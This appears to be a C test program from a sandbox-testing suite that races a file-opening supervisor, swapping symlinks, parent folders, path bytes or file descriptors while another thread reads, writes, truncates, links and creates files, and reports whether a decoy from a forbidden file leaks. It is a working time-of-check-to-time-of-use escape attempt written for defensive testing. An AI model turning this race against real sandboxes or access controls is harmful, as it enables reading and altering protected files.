/*
 * Races a supervisor that opens files on a program's behalf and leaves some out of what it opens.
 * race-areas <symlink|memory|folder|descriptor> <open file> <closed file> <folder to swap in> <seconds> <decoy>
 * One thread changes what the path means (a symbolic link, a folder above it, the bytes of the path, what a descriptor is) while the
 * other reads, writes, shortens, changes, links and makes files by that path. Facts: whatever the supervisor looks at, another
 * thread can change at the same moment. What counts is the decoy in what was read, and from outside the closed folder.
 */
#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

static atomic_bool stop;
static const char *way, *open_file, *closed_file, *folder;
static char link_path[4096], shared[4096], deep[4096];
static int hand = -1, open_handle = -1, closed_handle = -1;

static void parent_of(char *out, const char *path) {
  snprintf(out, 4096, "%s", path);
  *strrchr(out, '/') = 0;
}

static void *flip(void *nothing) {
  (void)nothing;
  char other_link[4200], real[4200], aside[4200], closed_folder[4096];
  snprintf(other_link, sizeof other_link, "%s.new", link_path);
  snprintf(real, sizeof real, "%s/turn", folder);
  snprintf(aside, sizeof aside, "%s/aside", folder);
  parent_of(closed_folder, closed_file);
  for (unsigned turn = 0; !atomic_load_explicit(&stop, memory_order_relaxed); turn++) {
    const char *target = turn & 1 ? closed_file : open_file;
    if (is(way, "symlink")) {
      if (symlink(target, other_link) == 0) rename(other_link, link_path);
    } else if (is(way, "folder")) {
      /* a real folder, and a link of the same name to the closed one */
      if (turn & 1) {
        rename(real, aside);
        (void)!symlink(closed_folder, real);
      } else {
        unlink(real);
        rename(aside, real);
      }
    } else if (is(way, "descriptor")) {
      dup2(turn & 1 ? closed_handle : open_handle, hand);
    } else {
      memcpy(shared, target, strlen(target) + 1);
    }
  }
  return NULL;
}

int main(int argc, char **argv) {
  way = argument(argc, argv, 1);
  open_file = argument(argc, argv, 2);
  closed_file = argument(argc, argv, 3);
  folder = argument(argc, argv, 4);
  long seconds = atol(argument(argc, argv, 5));
  const char *decoy = argument(argc, argv, 6);
  const char *path = shared;
  snprintf(link_path, sizeof link_path, "%s/flip", folder);
  memcpy(shared, open_file, strlen(open_file) + 1);
  if (is(way, "folder")) {
    char turn[4096];
    snprintf(turn, sizeof turn, "%s/turn", folder);
    prepare("make the folder", mkdir(turn, 0700));
    snprintf(deep, sizeof deep, "%s/turn/%s", folder, strrchr(closed_file, '/') + 1);
    close((int)prepare("make the inside file", open(deep, O_CREAT | O_WRONLY, 0600)));
    path = deep;
  } else if (is(way, "symlink")) {
    prepare("symlink", symlink(open_file, link_path));
    path = link_path;
  } else if (is(way, "descriptor")) {
    static char spelled[64];
    open_handle = (int)prepare("handle", open(open_file, O_PATH));
    closed_handle = (int)prepare("handle", open(closed_file, O_PATH));
    hand = (int)prepare("dup", dup(open_handle));
    snprintf(spelled, sizeof spelled, "/proc/self/fd/%d", hand);
    path = spelled;
  }
  char closed_folder[4096];
  parent_of(closed_folder, closed_file);
  pthread_t thread;
  if (pthread_create(&thread, NULL, flip, NULL) != 0) broken("thread");
  long done = 0, denied = 0, leaked = 0;
  struct timespec begin, now;
  clock_gettime(CLOCK_MONOTONIC, &begin);
  now = begin;
  for (long turn = 0; now.tv_sec - begin.tv_sec < seconds && leaked == 0; turn++) {
    char text[256] = "", other[4200];
    int descriptor = -1;
    long result = -1;
    switch (turn % 8) {
      case 0:
      case 1:
      case 2:
        result = descriptor = open(path, O_RDONLY);
        if (descriptor >= 0 && read(descriptor, text, sizeof text - 1) > 0 && strstr(text, decoy) != NULL) leaked++;
        break;
      case 3:
        result = descriptor = open(path, O_WRONLY);
        if (descriptor >= 0) (void)!write(descriptor, "W", 1);
        break;
      case 4:
        result = truncate(path, 1);
        break;
      case 5:
        result = chmod(path, turn & 8 ? 0600 : 0640);
        break;
      case 6:
        snprintf(other, sizeof other, "%s/second", folder);
        result = linkat(AT_FDCWD, path, AT_FDCWD, other, AT_SYMLINK_FOLLOW);
        if (result == 0) {
          descriptor = open(other, O_RDONLY);
          if (descriptor >= 0 && read(descriptor, text, sizeof text - 1) > 0 && strstr(text, decoy) != NULL) leaked++;
          unlink(other);
        }
        break;
      default:
        /* a file beside it: in the closed folder there may be none */
        if (is(way, "descriptor")) continue;
        snprintf(other, sizeof other, "%s.made", path);
        result = descriptor = open(other, O_WRONLY | O_CREAT, 0600);
        if (descriptor >= 0) unlink(other);
        break;
    }
    if (descriptor >= 0) close(descriptor);
    if (result >= 0) done++;
    else if (errno == EACCES || errno == EPERM || errno == EXDEV) denied++;
    clock_gettime(CLOCK_MONOTONIC, &now);
  }
  atomic_store(&stop, true);
  pthread_join(thread, NULL);
  if (leaked > 0) reached("the closed file's content");
  printf("REFUSED EACCES %ld done, %ld refused\n", done, denied);
  return 10;
}
